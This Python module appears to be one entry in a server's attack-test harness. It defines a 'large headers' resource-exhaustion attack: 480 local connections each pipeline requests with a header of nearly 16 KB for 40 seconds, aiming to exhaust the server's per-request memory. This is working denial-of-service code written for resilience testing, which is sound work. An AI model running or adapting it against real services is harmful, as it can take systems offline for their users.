"""One client against all with what the server keeps in memory: that must go as soon as it is answered."""

import asyncio
import itertools
import time

from attacks import ATTACKER, Target, attack

CONNECTIONS = 480
UNDER_WAY = 9  # requests of a connection
AT_LENGTH = 40.0  # seconds: the collector comes by every 20 s if it has something to do
HEADER = b"X: " + b"h" * 15_900


@attack("large headers on all connections")
def large_headers(target: Target) -> str | None:
    """As many requests as are allowed are under way, and one more is sent for each answer."""
    asyncio.run(_keep_asking(target.port))
    return None


async def _keep_asking(port: int) -> None:
    end = time.monotonic() + AT_LENGTH
    await asyncio.gather(*(_on_one(port, number, end) for number in range(CONNECTIONS)))


async def _on_one(port: int, number: int, end: float) -> None:
    path = b"/assets/none.js" if number % 5 else b"/healthz"
    request = b"GET %b HTTP/1.1\r\nHost: localhost\r\n%b\r\n\r\n" % (path, HEADER)
    await asyncio.sleep(number / 100)
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0))
            try:
                await _pipelined(reader, writer, request, end)
            finally:
                writer.close()
        except (OSError, asyncio.IncompleteReadError):
            await asyncio.sleep(0.2)


async def _pipelined(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, request: bytes, end: float
) -> None:
    for sent in itertools.count():
        if time.monotonic() > end or writer.transport.is_closing():
            return
        writer.write(request)
        if sent < UNDER_WAY:
            await asyncio.sleep(0.01)  # each must have been read before the next one comes
            continue
        head = (await reader.readuntil(b"\r\n\r\n")).lower()
        await reader.readexactly(int(head.partition(b"content-length:")[2].split(b"\r\n")[0]))
        if b"connection: close" in head:
            return
